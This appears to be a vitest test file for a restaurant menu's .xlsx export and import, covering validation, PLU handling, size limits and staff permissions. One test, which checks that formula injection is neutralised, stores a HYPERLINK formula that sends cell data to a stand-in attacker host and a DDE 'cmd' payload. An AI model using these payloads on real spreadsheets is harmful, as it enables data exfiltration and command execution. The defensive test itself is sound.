import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import ExcelJS from 'exceljs';
import { eq } from 'drizzle-orm';
import { authCalls } from '@sofra/contracts/auth/auth.calls';
import { storeCalls } from '@sofra/contracts/stores/stores.calls';
import { definitionKindCalls } from '@sofra/contracts/definitions/definitions.calls';
import { catalogueCalls as c, extrasCalls, sheetCalls } from '@sofra/contracts/menu/menu.calls';
import { menuDrafts } from '../../db/schema/index.ts';
import { buildTestApp, type TestApp } from '../../../test/build-app.ts';
import { newStore } from '../../../test/factories.ts';
import { sendCall } from '../../../test/send-call.ts';

let t: TestApp;
beforeAll(async () => {
  t = await buildTestApp();
});
afterAll(async () => t.close());

/** A store in Turkish and English with two groups and three products, one of them at 8 %. */
const menuOf = async () => {
  const [owner, other] = [await t.signIn(), await t.signIn()];
  const store = await t.call(owner.token, storeCalls.saveStore, newStore({ languages: ['tr', 'en'] }));
  const storeId = store.id;
  const rate8 = await t.call(owner.token, definitionKindCalls.taxRates.save, { storeId, name: 'İndirimli', rate: 8 });
  const soups = await t.call(owner.token, c.saveGroup, { storeId, names: { tr: 'Çorbalar', en: 'Soups' } });
  const mains = await t.call(owner.token, c.saveGroup, { storeId, names: { tr: 'Ana yemekler' } });
  const lentil = await t.call(owner.token, c.saveProduct, {
    storeId,
    groupId: soups.id,
    names: { tr: 'Mercimek çorbası', en: 'Lentil soup' },
    descriptions: { tr: 'Limon ve kıtır ekmekle' },
    price: 4550,
    plu: '1001',
    tags: ['vegetarian', 'vegan'],
    allergens: ['celery', 'gluten'],
    taxRateId: rate8.id,
  });
  const tripe = await t.call(owner.token, c.saveProduct, {
    storeId,
    groupId: soups.id,
    names: { tr: 'İşkembe' },
    price: 16_000,
    isShowInStore: false,
  });
  const kofte = await t.call(owner.token, c.saveProduct, {
    storeId,
    groupId: mains.id,
    names: { tr: 'Köfte' },
    price: 29,
    plu: '0042',
    active: false,
  });
  return { owner, other, storeId, rate8, soups, mains, lentil, tripe, kofte };
};

const exported = async (token: string, storeId: string) => {
  const res = await t.raw(token, sheetCalls.exportMenu, { storeId });
  expect(res.statusCode).toBe(200);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(res.rawPayload as unknown as ExcelJS.Buffer);
  return { res, book };
};

const bytesOf = async (book: ExcelJS.Workbook) => Buffer.from((await book.xlsx.writeBuffer()) as ArrayBuffer);

const upload = (token: string, storeId: string, file: Buffer) =>
  sendCall(t.app, token, sheetCalls.importMenu, { storeId }, { file });

/** A sheet's rows as objects by header, as an owner reads them. */
const rowsOf = (sheet: ExcelJS.Worksheet) => {
  const headers = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
  const rows: Record<string, unknown>[] = [];
  sheet.eachRow((row, n) => {
    if (n > 1) rows.push(Object.fromEntries(headers.map((h, i) => [h, row.getCell(i + 1).value])));
  });
  return rows;
};

/** Writes a cell of a data row by its header. */
const setCell = (sheet: ExcelJS.Worksheet, row: number, header: string, value: ExcelJS.CellValue) => {
  const column = ((sheet.getRow(1).values as unknown[]).slice(1) as string[]).indexOf(header) + 1;
  expect(column, header).toBeGreaterThan(0);
  sheet.getRow(row).getCell(column).value = value;
};

const menuNow = async (token: string, storeId: string) => ({
  groups: await t.call(token, c.getGroups, { storeId }),
  products: await t.call(token, c.getProducts, { storeId }),
});

const stamp = async (storeId: string) =>
  (await (await t.db()).select().from(menuDrafts).where(eq(menuDrafts.storeId, storeId)))[0]?.changedAt.getTime();

describe('menu spreadsheet', () => {
  test('the export is an .xlsx download with a Groups and a Products sheet an owner can read', async () => {
    const m = await menuOf();
    const { res, book } = await exported(m.owner.token, m.storeId);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="menu-test-lokantasi-\d+-\d{4}-\d{2}-\d{2}\.xlsx"$/,
    );
    const groups = book.getWorksheet('Groups')!;
    const products = book.getWorksheet('Products')!;
    expect(groups.getRow(1).font?.bold).toBe(true);
    expect(groups.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(rowsOf(groups)).toEqual([
      { id: m.soups.id, name_tr: 'Çorbalar', name_en: 'Soups', sequence: 0, active: true },
      { id: m.mains.id, name_tr: 'Ana yemekler', name_en: '', sequence: 1, active: true },
    ]);
    expect(rowsOf(products)).toEqual([
      {
        id: m.lentil.id,
        group: 'Çorbalar',
        name_tr: 'Mercimek çorbası',
        name_en: 'Lentil soup',
        description_tr: 'Limon ve kıtır ekmekle',
        description_en: '',
        price: 45.5,
        taxRate: 8,
        plu: '1001',
        active: true,
        isShowInStore: true,
        allergens: 'celery, gluten',
        tags: 'vegetarian, vegan',
      },
      expect.objectContaining({ id: m.tripe.id, price: 160, taxRate: 10, plu: '', isShowInStore: false }),
      expect.objectContaining({ id: m.kofte.id, group: 'Ana yemekler', price: 0.29, plu: '0042', active: false }),
    ]);
    expect(products.getRow(2).getCell(7).numFmt).toBe('0.00');
  });

  test('a text that a spreadsheet would run as a formula is exported behind a quote, and imports back unchanged', async () => {
    const owner = await t.signIn();
    const storeId = (await t.call(owner.token, storeCalls.saveStore, newStore())).id;
    const link = '=HYPERLINK("https://evil.example/?q="&A1,"Menü")';
    const group = await t.call(owner.token, c.saveGroup, { storeId, names: { tr: '@Tatlılar' } });
    const product = await t.call(owner.token, c.saveProduct, {
      storeId,
      groupId: group.id,
      names: { tr: link },
      descriptions: { tr: "-2+3+cmd|' /C calc'!A0" },
      price: 1000,
    });
    const quoted = await t.call(owner.token, c.saveProduct, {
      storeId,
      groupId: group.id,
      names: { tr: "'=1" },
      price: 1000,
    });
    const { res, book } = await exported(owner.token, storeId);
    const [row] = rowsOf(book.getWorksheet('Products')!).filter((r) => r.id === product.id);
    expect(row).toMatchObject({
      name_tr: `'${link}`,
      group: "'@Tatlılar",
      description_tr: "'-2+3+cmd|' /C calc'!A0",
    });
    const cell = book.getWorksheet('Products')!.getRow(2).getCell(3);
    expect([cell.type, cell.formula]).toEqual([ExcelJS.ValueType.String, undefined]);
    expect(rowsOf(book.getWorksheet('Groups')!)[0]).toMatchObject({ name_tr: "'@Tatlılar" });
    expect(rowsOf(book.getWorksheet('Products')!).find((r) => r.id === quoted.id)).toMatchObject({ name_tr: "''=1" });

    // Imported again: the quote the export added goes, the names are the owner's, nothing changes.
    const before = await menuNow(owner.token, storeId);
    const again = await upload(owner.token, storeId, res.rawPayload);
    expect(again.json()).toEqual({ groups: { created: 0, updated: 0 }, products: { created: 0, updated: 0 } });
    expect(await menuNow(owner.token, storeId)).toEqual(before);
    // A price changed in the file: the row is written, its names as they were.
    setCell(book.getWorksheet('Products')!, 2, 'price', 12);
    expect((await upload(owner.token, storeId, await bytesOf(book))).json()).toMatchObject({
      products: { created: 0, updated: 1 },
    });
    const after = (await menuNow(owner.token, storeId)).products;
    expect(after.find((p) => p.id === product.id)).toMatchObject({
      names: { tr: link },
      descriptions: { tr: "-2+3+cmd|' /C calc'!A0" },
      price: 1200,
    });
    expect(after.find((p) => p.id === quoted.id)?.names).toEqual({ tr: "'=1" });
    expect((await menuNow(owner.token, storeId)).groups[0]?.names).toEqual({ tr: '@Tatlılar' });
  });

  test('re-importing an unchanged export changes nothing, and the draft is not stamped', async () => {
    const m = await menuOf();
    const before = await menuNow(m.owner.token, m.storeId);
    const stamped = await stamp(m.storeId);
    const { res } = await exported(m.owner.token, m.storeId);
    const imported = await upload(m.owner.token, m.storeId, res.rawPayload);
    expect(imported.statusCode).toBe(200);
    expect(imported.json()).toEqual({ groups: { created: 0, updated: 0 }, products: { created: 0, updated: 0 } });
    expect(await menuNow(m.owner.token, m.storeId)).toEqual(before);
    expect(await stamp(m.storeId)).toBe(stamped);
  });

  test('rows without an id create, rows with one update only what differs; the file may rename a group', async () => {
    const m = await menuOf();
    const { res, book } = await exported(m.owner.token, m.storeId);
    const groups = book.getWorksheet('Groups')!;
    const products = book.getWorksheet('Products')!;
    setCell(groups, 2, 'name_tr', 'Sıcak çorbalar');
    groups.addRow(['', 'Tatlılar', 'Desserts', '', true]);
    // One product names the group by its new name, the other keeps the old one: both stay in it.
    setCell(products, 2, 'group', 'Sıcak çorbalar');
    setCell(products, 2, 'price', 47.25);
    const added = products.rowCount + 1;
    for (const [header, value] of Object.entries({
      group: 'tatlılar',
      name_tr: 'Sütlaç',
      name_en: 'Rice pudding',
      price: '85,50',
      taxRate: '8%',
      plu: 2001,
      allergens: 'milk',
      tags: 'Vegetarian',
    }))
      setCell(products, added, header, value);

    const imported = await upload(m.owner.token, m.storeId, await bytesOf(book));
    expect(imported.json()).toEqual({ groups: { created: 1, updated: 1 }, products: { created: 1, updated: 1 } });
    const after = await menuNow(m.owner.token, m.storeId);
    expect(after.groups.map((g) => [g.name, g.sequence])).toEqual([
      ['Sıcak çorbalar', 0],
      ['Ana yemekler', 1],
      ['Tatlılar', 2],
    ]);
    const desserts = after.groups[2]!;
    expect(desserts.names).toEqual({ tr: 'Tatlılar', en: 'Desserts' });
    const pudding = after.products.find((p) => p.name === 'Sütlaç')!;
    expect(pudding).toMatchObject({
      groupId: desserts.id,
      names: { tr: 'Sütlaç', en: 'Rice pudding' },
      price: 8550,
      taxRateId: m.rate8.id,
      plu: '2001',
      allergens: ['milk'],
      tags: ['vegetarian'],
      active: true,
      isShowInStore: true,
      sequence: 0,
    });
    expect(after.products.find((p) => p.id === m.lentil.id)).toMatchObject({ price: 4725, groupId: m.soups.id });
    // The rest is as it was: an import never deletes, and rows that did not change are not written.
    expect(after.products.find((p) => p.id === m.tripe.id)).toEqual(m.tripe);
    expect(after.products.find((p) => p.id === m.kofte.id)).toEqual(m.kofte);

    // The first file again puts back the group's name and the price, and leaves the new rows be.
    const again = await upload(m.owner.token, m.storeId, res.rawPayload);
    expect(again.json()).toEqual({ groups: { created: 0, updated: 1 }, products: { created: 0, updated: 1 } });
  });

  test('PLUs may trade places within a file', async () => {
    const m = await menuOf();
    const { book } = await exported(m.owner.token, m.storeId);
    const products = book.getWorksheet('Products')!;
    setCell(products, 2, 'plu', '0042');
    setCell(products, 4, 'plu', '1001');
    const imported = await upload(m.owner.token, m.storeId, await bytesOf(book));
    expect(imported.json().products).toEqual({ created: 0, updated: 2 });
    const after = await t.call(m.owner.token, c.getProducts, { storeId: m.storeId });
    expect(after.map((p) => [p.id, p.plu])).toEqual(
      expect.arrayContaining([
        [m.lentil.id, '0042'],
        [m.kofte.id, '1001'],
      ]),
    );
  });

  test('a price the file lowers below what a variation takes off is refused, and nothing changes', async () => {
    const m = await menuOf();
    const discount = await t.call(m.owner.token, extrasCalls.saveModifier, {
      storeId: m.storeId,
      names: { tr: 'İndirim' },
      options: [{ names: { tr: 'Yarım' }, price: -2000 }],
    });
    await t.call(m.owner.token, extrasCalls.setLinks, {
      storeId: m.storeId,
      target: 'group',
      id: m.soups.id,
      modifierIds: [discount.id],
    });
    const before = await menuNow(m.owner.token, m.storeId);
    const { book } = await exported(m.owner.token, m.storeId);
    setCell(book.getWorksheet('Products')!, 2, 'price', 15);
    const refused = await upload(m.owner.token, m.storeId, await bytesOf(book));
    expect([refused.statusCode, refused.json().code]).toEqual([409, 'modifier_price_negative']);
    expect(await menuNow(m.owner.token, m.storeId)).toEqual(before);
  });

  test('one wrong row changes nothing and is named by sheet, row and column with the reason', async () => {
    const m = await menuOf();
    const before = await menuNow(m.owner.token, m.storeId);
    const stamped = await stamp(m.storeId);
    const refused = async (change: (groups: ExcelJS.Worksheet, products: ExcelJS.Worksheet) => void) => {
      const { book } = await exported(m.owner.token, m.storeId);
      change(book.getWorksheet('Groups')!, book.getWorksheet('Products')!);
      // A good change next to the wrong one, so a partial import would show.
      setCell(book.getWorksheet('Groups')!, 3, 'name_en', 'Mains');
      const res = await upload(m.owner.token, m.storeId, await bytesOf(book));
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ code: 'menu_import_invalid', desc: expect.any(String) });
      return res.json().fields as { path: string; code: string }[];
    };

    expect(await refused((_g, p) => setCell(p, 3, 'price', -5))).toEqual([
      { path: 'Products.3.price', code: 'too_small' },
    ]);
    expect(await refused((_g, p) => setCell(p, 3, 'price', 12.345))).toEqual([
      { path: 'Products.3.price', code: 'invalid_format' },
    ]);
    expect(await refused((_g, p) => setCell(p, 4, 'group', 'Kahvaltı'))).toEqual([
      { path: 'Products.4.group', code: 'menu_group_not_found' },
    ]);
    expect(await refused((_g, p) => setCell(p, 4, 'plu', '1001'))).toEqual([
      { path: 'Products.4.plu', code: 'plu_taken' },
    ]);
    expect(await refused((_g, p) => setCell(p, 3, 'taxRate', 18))).toEqual([
      { path: 'Products.3.taxRate', code: 'definition_not_found' },
    ]);
    expect(await refused((_g, p) => setCell(p, 2, 'allergens', 'celery, garlic'))).toEqual([
      { path: 'Products.2.allergens', code: 'invalid_value' },
    ]);
    expect(await refused((g) => setCell(g, 2, 'name_tr', null))).toEqual([
      { path: 'Groups.2.name_tr', code: 'too_small' },
    ]);
    // Every wrong row is named, not only the first.
    expect(
      await refused((g, p) => {
        setCell(p, 2, 'price', 'pahalı');
        setCell(p, 3, 'name_tr', '');
        setCell(p, 4, 'active', 'belki');
        setCell(g, 2, 'sequence', 1.5);
      }),
    ).toEqual([
      { path: 'Groups.2.sequence', code: 'invalid_type' },
      { path: 'Products.2.price', code: 'invalid_format' },
      { path: 'Products.3.name_tr', code: 'too_small' },
      { path: 'Products.4.active', code: 'invalid_type' },
    ]);
    // A PLU a live product outside the file holds is taken too.
    expect(
      await refused((_g, p) => {
        p.spliceRows(4, 1);
        setCell(p, 3, 'plu', '0042');
      }),
    ).toEqual([{ path: 'Products.3.plu', code: 'plu_taken' }]);

    expect(await menuNow(m.owner.token, m.storeId)).toEqual(before);
    expect(await stamp(m.storeId)).toBe(stamped);
  });

  test('a file that is not a menu spreadsheet is refused', async () => {
    const m = await menuOf();
    const notXlsx = await upload(m.owner.token, m.storeId, Buffer.from('id,name\n1,Çorba\n'));
    expect([notXlsx.statusCode, notXlsx.json().code]).toEqual([415, 'unsupported_media_type']);
    const empty = new ExcelJS.Workbook();
    empty.addWorksheet('Sayfa1');
    const wrong = await upload(m.owner.token, m.storeId, await bytesOf(empty));
    expect(wrong.statusCode).toBe(400);
    expect(wrong.json().fields).toEqual([
      { path: 'Groups', code: 'required' },
      { path: 'Products', code: 'required' },
    ]);
    // More rows than a menu can have are refused before the workbook is parsed.
    const huge = new ExcelJS.Workbook();
    const sheet = huge.addWorksheet('Products');
    for (let i = 0; i < 20_001; i++) sheet.addRow([i]);
    const tooBig = await upload(m.owner.token, m.storeId, await bytesOf(huge));
    expect([tooBig.statusCode, tooBig.json().code]).toEqual([413, 'payload_too_large']);
    // Columns are found by header, in any order; a required one missing is named.
    const { book } = await exported(m.owner.token, m.storeId);
    book.getWorksheet('Products')!.spliceColumns(7, 1);
    const noPrice = await upload(m.owner.token, m.storeId, await bytesOf(book));
    expect(noPrice.json().fields).toEqual([{ path: 'Products.1.price', code: 'required' }]);
  });

  test('staff need menu.edit to import; another owner is refused both calls', async () => {
    const m = await menuOf();
    const { res } = await exported(m.owner.token, m.storeId);
    for (const call of [
      await t.raw(m.other.token, sheetCalls.exportMenu, { storeId: m.storeId }),
      await upload(m.other.token, m.storeId, res.rawPayload),
    ])
      expect([call.statusCode, call.json().code]).toEqual([403, 'store_forbidden']);

    const waiter = await t.signIn();
    await t.call(m.owner.token, storeCalls.saveStaff, { storeId: m.storeId, gsm: waiter.gsm });
    await t.call(waiter.token, authCalls.acceptInvitation, { storeId: m.storeId, kind: 'staff' });
    // Reading the menu is enough to export it.
    expect((await t.raw(waiter.token, sheetCalls.exportMenu, { storeId: m.storeId })).statusCode).toBe(200);
    const refused = await upload(waiter.token, m.storeId, res.rawPayload);
    expect([refused.statusCode, refused.json().code]).toEqual([403, 'store_forbidden']);
    await t.call(m.owner.token, storeCalls.saveStaffPermissions, {
      storeId: m.storeId,
      userId: waiter.userId,
      permissions: ['menu.edit'],
    });
    expect((await upload(waiter.token, m.storeId, res.rawPayload)).statusCode).toBe(200);
  });
});
